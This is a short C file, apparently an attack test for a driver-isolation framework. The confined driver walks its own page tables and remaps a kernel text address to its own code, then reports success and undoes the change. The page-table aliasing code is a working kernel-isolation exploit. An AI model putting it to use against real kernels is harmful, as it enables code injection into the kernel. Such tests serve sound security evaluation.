/*
 * I2: the driver edits its own page table, which it can read at a fixed place of its window. If it can write there, it maps a page of its
 * code at an address of the kernel's text: the base of every attack by aliasing.
 */
#include "attack.h"

enum { WRITABLE = 2, LARGEST_INDEX = 511 };

/* The level-1 entry for an address, by walking the tables as the processor does. */
static volatile u64 *leaf_of(u64 address) {
    u64 window = window_of(attack), first = window + LVD_WINDOW_PAGE_TABLES;
    u64 first_physical = first - LVD_KERNEL_BASE + LVD_DOMAIN_GPA;
    volatile u64 *table = (volatile u64 *)first;
    for (int shift = 39; shift > 12; shift -= 9) {
        u64 entry = table[address >> shift & LARGEST_INDEX];
        if (!(entry & 1))
            return NULL;
        table = (volatile u64 *)(first + ((entry & 0x000ffffffffff000ULL) - first_physical));
    }
    return &table[address >> 12 & LARGEST_INDEX];
}

static void attack(void) {
    u64 kernel_text = LVD_KERNEL_BASE + LVD_KERNEL_PHYS + LVD_PAGE_SIZE;
    volatile u64 *mine = leaf_of((u64)attack), *kernels = leaf_of(kernel_text);

    *kernels = *mine;
    _printk("attack: the kernel's text address now holds my code: %x\n", *(volatile u32 *)kernel_text);
    *kernels = 0;
}
